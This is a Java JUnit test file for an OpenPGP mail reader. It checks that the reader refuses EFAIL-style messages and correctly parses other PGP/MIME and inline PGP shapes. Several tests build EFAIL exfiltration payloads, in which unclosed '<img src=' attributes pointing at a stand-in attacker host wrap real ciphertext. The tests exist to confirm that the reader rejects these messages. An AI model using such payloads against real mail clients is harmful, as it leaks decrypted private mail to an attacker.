package org.sceau.openpgp.mail;

import static java.nio.charset.StandardCharsets.UTF_8;
import static org.junit.jupiter.api.Assertions.*;
import static org.sceau.openpgp.mail.MailKeys.*;

import java.io.ByteArrayInputStream;
import java.io.ByteArrayOutputStream;
import java.util.List;
import org.junit.jupiter.api.Test;
import org.sceau.openpgp.DetachedSigner;
import org.sceau.openpgp.Encoding;
import org.sceau.openpgp.MessageEncryptor;
import org.sceau.openpgp.OpenPgpError;
import org.sceau.openpgp.OpenPgpException;
import org.sceau.openpgp.Passphrase;
import org.sceau.openpgp.SignatureStatus;

/**
 * EFAIL-style mixed messages, the other PGP/MIME shapes a reader meets (draft protected headers
 * with a legacy display part, §6.1 nested signature, Exchange's rewrite, inline PGP) and bounds.
 */
class EfailAndShapesTest {
  static final MailReader BOB_READER =
      MailReader.builder()
          .withKey(BOB.key(), Passphrase.none())
          .verifyWith(List.of(ALICE.key().certificate()))
          .build();

  /** The armored ciphertext of a real message Alice wrote to Bob. */
  static String ciphertext(String inner, boolean sign) throws Exception {
    MessageEncryptor.Builder b = MessageEncryptor.builder().to(BOB.key().certificate());
    if (sign) {
      b.signWith(ALICE.key(), ALICE_PASS);
    }
    ByteArrayOutputStream out = new ByteArrayOutputStream();
    b.build().encrypt(new ByteArrayInputStream(inner.getBytes(UTF_8)), out);
    return out.toString(UTF_8);
  }

  static final String SECRET_INNER =
      "Content-Type: text/plain; charset=UTF-8\r\n\r\nthe secret plan\r\n";

  static String pgpMime(String armored) {
    return "Content-Type: multipart/encrypted; protocol=\"application/pgp-encrypted\"; boundary=\"E\"\r\n\r\n"
        + "--E\r\nContent-Type: application/pgp-encrypted\r\n\r\nVersion: 1\r\n"
        + "--E\r\nContent-Type: application/octet-stream\r\n\r\n"
        + armored
        + "\r\n--E--\r\n";
  }

  static MailException refused(String mail) {
    return assertThrows(MailException.class, () -> BOB_READER.read(mail.getBytes(UTF_8)));
  }

  @Test
  void refusesRealCiphertextWrappedBetweenAttackerHtmlParts() throws Exception {
    String mail =
        "From: alice@example.org\r\nTo: bob@example.org\r\nSubject: hi\r\nMIME-Version: 1.0\r\n"
            + "Content-Type: multipart/mixed; boundary=\"M\"\r\n\r\n"
            + "--M\r\nContent-Type: text/html\r\n\r\n<img src=\"http://attacker.example/\r\n"
            + "--M\r\n"
            + pgpMime(ciphertext(SECRET_INNER, true)).replace("boundary=\"E\"", "boundary=\"E\"")
            + "--M\r\nContent-Type: text/html\r\n\r\n\">\r\n--M--\r\n";
    assertEquals(MailError.MIXED_ENCRYPTED_CONTENT, refused(mail).code());
  }

  @Test
  void mailingListFooterAfterTheEnvelopeIsReturnedApartAndLabelledUnencrypted() throws Exception {
    String mail =
        "From: alice@example.org\r\nTo: list@example.org\r\nSubject: hi\r\nMIME-Version: 1.0\r\n"
            + "Content-Type: multipart/mixed; boundary=\"M\"\r\n\r\n"
            + "--M\r\n"
            + pgpMime(ciphertext(SECRET_INNER, true))
            + "--M\r\nContent-Type: text/plain; charset=us-ascii\r\n\r\n"
            + "_______________\r\nList mailing list\r\nhttps://lists.example.org/list\r\n"
            + "--M--\r\n";
    ReadMail r = BOB_READER.read(mail.getBytes(UTF_8));
    assertEquals(MailKind.PGP_MIME_ENCRYPTED, r.kind());
    assertTrue(r.encrypted());
    assertEquals(org.sceau.openpgp.SignatureStatus.GOOD, r.signatureStatus());
    assertEquals("the secret plan\r\n", r.text().orElseThrow());
    // the footer is not in the decrypted content, only beside it
    assertTrue(r.body().flatten().stream().noneMatch(p -> p.text().contains("mailing list")));
    assertEquals(1, r.unencryptedParts().size());
    assertTrue(r.unencryptedParts().get(0).text().contains("List mailing list"));
  }

  @Test
  void htmlBeforeTheEnvelopeIsStillRefusedEvenWithAFooterAfter() throws Exception {
    String mail =
        "Content-Type: multipart/mixed; boundary=\"M\"\r\n\r\n"
            + "--M\r\n"
            + pgpMime(ciphertext(SECRET_INNER, true))
            + "--M\r\nContent-Type: text/plain\r\n\r\nfooter\r\n"
            + "--M\r\n"
            + pgpMime(ciphertext(SECRET_INNER, true))
            + "--M--\r\n";
    // a second envelope after the first is encrypted content outside: refused
    assertEquals(MailError.MIXED_ENCRYPTED_CONTENT, refused(mail).code());
  }

  @Test
  void refusesBareEncryptedPartsBetweenAttackerParts() throws Exception {
    // the Exchange-like shape, but with attacker HTML around it instead of an empty text part
    String mail =
        "Content-Type: multipart/mixed; boundary=\"M\"\r\n\r\n"
            + "--M\r\nContent-Type: text/html\r\n\r\n<img src=\"http://attacker.example/\r\n"
            + "--M\r\nContent-Type: application/pgp-encrypted\r\n\r\nVersion: 1\r\n"
            + "--M\r\nContent-Type: application/octet-stream\r\n\r\n"
            + ciphertext(SECRET_INNER, true)
            + "\r\n--M--\r\n";
    assertEquals(MailError.MIXED_ENCRYPTED_CONTENT, refused(mail).code());
  }

  @Test
  void refusesInlineCiphertextWithTextAroundIt() throws Exception {
    String mail =
        "Content-Type: text/plain\r\n\r\nClick http://attacker.example/?q=\r\n"
            + ciphertext("secret", true)
            + "\r\n";
    assertEquals(MailError.MIXED_ENCRYPTED_CONTENT, refused(mail).code());
  }

  @Test
  void readsExchangeMangledPgpMime() throws Exception {
    String mail =
        "From: alice@example.org\r\nContent-Type: multipart/mixed; boundary=\"M\"\r\n\r\n"
            + "--M\r\nContent-Type: text/plain; charset=us-ascii\r\n\r\n\r\n"
            + "--M\r\nContent-Type: application/pgp-encrypted\r\nContent-Disposition: attachment; filename=\"PGPMIME version identification\"\r\n\r\nVersion: 1\r\n"
            + "--M\r\nContent-Type: application/octet-stream; name=\"encrypted.asc\"\r\nContent-Disposition: attachment; filename=\"encrypted.asc\"\r\n\r\n"
            + ciphertext(SECRET_INNER, true)
            + "\r\n--M--\r\n";
    ReadMail r = BOB_READER.read(mail.getBytes(UTF_8));
    assertEquals(MailKind.PGP_MIME_ENCRYPTED, r.kind());
    assertEquals("the secret plan\r\n", r.text().orElseThrow());
    assertEquals(SignatureStatus.GOOD, r.signatureStatus());
  }

  @Test
  void readsInlinePgpBody() throws Exception {
    String mail =
        "Subject: x\r\nContent-Type: text/plain\r\n\r\n\r\n"
            + ciphertext("inline secret ü", true)
            + "\r\n";
    ReadMail r = BOB_READER.read(mail.getBytes(UTF_8));
    assertEquals(MailKind.INLINE_PGP, r.kind());
    assertTrue(r.encrypted());
    assertEquals("inline secret ü", r.text().orElseThrow());
    assertEquals(SignatureStatus.GOOD, r.signatureStatus());
  }

  @Test
  void readsInlinePgpInsideHtmlAndInAlternatives() throws Exception {
    String armored = ciphertext("inline secret ü", true);
    String html =
        "<html><body><pre>" + armored.replace("\n", "<br>\n") + "</pre></body></html>\r\n";
    ReadMail inHtml =
        BOB_READER.read(
            ("Subject: x\r\nContent-Type: text/html; charset=utf-8\r\n\r\n" + html)
                .getBytes(UTF_8));
    assertEquals(MailKind.INLINE_PGP, inHtml.kind());
    assertEquals("inline secret ü", inHtml.text().orElseThrow());
    assertEquals(SignatureStatus.GOOD, inHtml.signatureStatus());

    String alt =
        "Subject: x\r\nContent-Type: multipart/alternative; boundary=\"A\"\r\n\r\n"
            + "--A\r\nContent-Type: text/plain\r\n\r\n"
            + armored
            + "\r\n--A\r\nContent-Type: text/html\r\n\r\n"
            + html
            + "--A--\r\n";
    ReadMail inAlt = BOB_READER.read(alt.getBytes(UTF_8));
    assertEquals(MailKind.INLINE_PGP, inAlt.kind());
    assertEquals("inline secret ü", inAlt.text().orElseThrow());
  }

  @Test
  void anAlternativeWithAttackerHtmlBesideTheCiphertextIsRefused() throws Exception {
    String alt =
        "Subject: x\r\nContent-Type: multipart/alternative; boundary=\"A\"\r\n\r\n"
            + "--A\r\nContent-Type: text/plain\r\n\r\n"
            + ciphertext(SECRET_INNER, true)
            + "\r\n--A\r\nContent-Type: text/html\r\n\r\n"
            + "<img src=\"http://attacker.example/<pre>"
            + ciphertext(SECRET_INNER, true)
            + "</pre>\">\r\n--A--\r\n";
    assertEquals(MailError.MIXED_ENCRYPTED_CONTENT, refused(alt).code());
  }

  @Test
  void readsDraftProtectedHeadersAndDropsLegacyDisplayPart() throws Exception {
    String inner =
        "Content-Type: multipart/mixed; boundary=\"P\"; protected-headers=\"v1\"\r\n"
            + "Subject: =?UTF-8?Q?Le_vrai_sujet_=C3=A9?=\r\nFrom: Alice <alice@example.org>\r\nTo: bob@example.org\r\n\r\n"
            + "--P\r\nContent-Type: text/rfc822-headers; protected-headers=\"v1\"\r\nContent-Disposition: inline\r\n\r\nSubject: Le vrai sujet\r\n"
            + "--P\r\nContent-Type: text/plain; charset=UTF-8\r\n\r\nbody text\r\n--P--\r\n";
    String mail = "Subject: ...\r\n" + pgpMime(ciphertext(inner, true));
    ReadMail r = BOB_READER.read(mail.getBytes(UTF_8));
    assertEquals(HeaderProtection.DRAFT_V1, r.protectedHeaders().orElseThrow().scheme());
    assertEquals("Le vrai sujet é", r.subject());
    assertEquals(1, r.body().children().size(), "the legacy display part is not content");
    assertEquals(
        "body text", r.text().orElseThrow(), "the line break before a boundary belongs to it");
  }

  @Test
  void readsNestedMultipartSignedInsideEncryption() throws Exception {
    String signedPart = "Content-Type: text/plain; charset=UTF-8\r\n\r\nsigned then encrypted\r\n";
    byte[] sig =
        DetachedSigner.create(ALICE.key(), ALICE_PASS, Encoding.ARMORED)
            .sign(new ByteArrayInputStream(signedPart.getBytes(UTF_8)));
    String inner =
        "Content-Type: multipart/signed; micalg=pgp-sha512; protocol=\"application/pgp-signature\"; boundary=\"S\"\r\n\r\n"
            + "--S\r\n"
            + signedPart
            + "\r\n--S\r\nContent-Type: application/pgp-signature\r\n\r\n"
            + new String(sig, UTF_8)
            + "\r\n--S--\r\n";
    ReadMail r = BOB_READER.read(pgpMime(ciphertext(inner, false)).getBytes(UTF_8));
    assertTrue(r.encrypted());
    assertEquals(SignatureStatus.GOOD, r.signatureStatus());
    assertEquals("signed then encrypted\r\n", r.text().orElseThrow());
  }

  @Test
  void tamperedCiphertextIsAnExplicitErrorWithNoContent() throws Exception {
    String armored = ciphertext(SECRET_INNER, true);
    String[] lines = armored.split("\n");
    int mid = lines.length / 2;
    char[] l = lines[mid].toCharArray();
    l[5] = l[5] == 'A' ? 'B' : 'A';
    lines[mid] = new String(l);
    String broken = String.join("\n", lines);
    OpenPgpException e =
        assertThrows(
            OpenPgpException.class, () -> BOB_READER.read(pgpMime(broken).getBytes(UTF_8)));
    assertTrue(
        e.code() == OpenPgpError.MALFORMED_MESSAGE || e.code() == OpenPgpError.NO_DECRYPTION_KEY,
        e.code().toString());
  }

  @Test
  void wrongRecipientGetsNoDecryptionKey() throws Exception {
    MailReader carol = MailReader.builder().withKey(CAROL.key(), Passphrase.none()).build();
    OpenPgpException e =
        assertThrows(
            OpenPgpException.class,
            () -> carol.read(pgpMime(ciphertext(SECRET_INNER, true)).getBytes(UTF_8)));
    assertEquals(OpenPgpError.NO_DECRYPTION_KEY, e.code());
  }

  @Test
  void encryptedEnvelopeWithoutSecondPartIsMalformed() {
    String mail =
        "Content-Type: multipart/encrypted; protocol=\"application/pgp-encrypted\"; boundary=\"E\"\r\n\r\n"
            + "--E\r\nContent-Type: application/pgp-encrypted\r\n\r\nVersion: 1\r\n--E--\r\n";
    assertEquals(MailError.MALFORMED_MAIL, refused(mail).code());
    String noProtocol =
        "Content-Type: multipart/signed; boundary=\"E\"\r\n\r\n--E\r\n\r\nx\r\n--E--\r\n";
    assertEquals(MailError.MALFORMED_MAIL, refused(noProtocol).code());
  }

  @Test
  void boundsAreEnforced() throws Exception {
    String mail = pgpMime(ciphertext("Content-Type: text/plain\r\n\r\n" + "x".repeat(5000), true));
    MailReader small =
        MailReader.builder()
            .withKey(BOB.key(), Passphrase.none())
            .limits(new MailLimits(1 << 20, 1000, 100, 10))
            .build();
    assertEquals(
        MailError.TOO_LARGE,
        assertThrows(MailException.class, () -> small.read(mail.getBytes(UTF_8))).code());

    MailReader tiny = MailReader.builder().limits(new MailLimits(100, 100, 100, 10)).build();
    assertEquals(
        MailError.TOO_LARGE,
        assertThrows(MailException.class, () -> tiny.read(mail.getBytes(UTF_8))).code());

    StringBuilder many = new StringBuilder("Content-Type: multipart/mixed; boundary=\"M\"\r\n\r\n");
    for (int i = 0; i < 50; i++) {
      many.append("--M\r\nContent-Type: text/plain\r\n\r\n").append(i).append("\r\n");
    }
    many.append("--M--\r\n");
    MailReader fewParts =
        MailReader.builder().limits(new MailLimits(1 << 20, 1 << 20, 20, 10)).build();
    assertEquals(
        MailError.TOO_LARGE,
        assertThrows(MailException.class, () -> fewParts.read(many.toString().getBytes(UTF_8)))
            .code());
  }
}
